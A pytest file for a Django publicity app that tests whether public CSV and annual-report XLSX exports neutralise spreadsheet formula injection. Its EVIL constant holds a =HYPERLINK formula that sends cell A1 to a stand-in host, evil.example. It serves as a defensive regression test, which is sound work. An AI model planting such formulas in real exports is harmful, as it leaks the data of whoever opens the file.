"""Spreadsheet formula injection (issue 11): the public CSV and the annual report XLSX keep an
agency name such as ``=HYPERLINK(…)`` as text."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from yangguang.publicity import reports
from yangguang.publicity.models import Publication

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_public_csv_neutralizes_formulas(public: Any, decide: Any, agency: Any) -> None:
    Publication.objects.get(case=decide(facts="当事人占道经营，罚款五十元。"))
    agency.name = EVIL
    agency.save(update_fields=["name"])
    response = public.get("/public/open-data/decisions.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][2] == "'" + EVIL
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)


def test_annual_report_xlsx_keeps_names_as_text() -> None:
    data = reports.to_xlsx("统计年报", [EVIL, "-5+1"], [{}, {}])
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    header = [c for c in ws[2]]
    assert [(c.value, c.data_type, c.quotePrefix) for c in header[1:]] == [(EVIL, "s", True), ("-5+1", "s", True)]
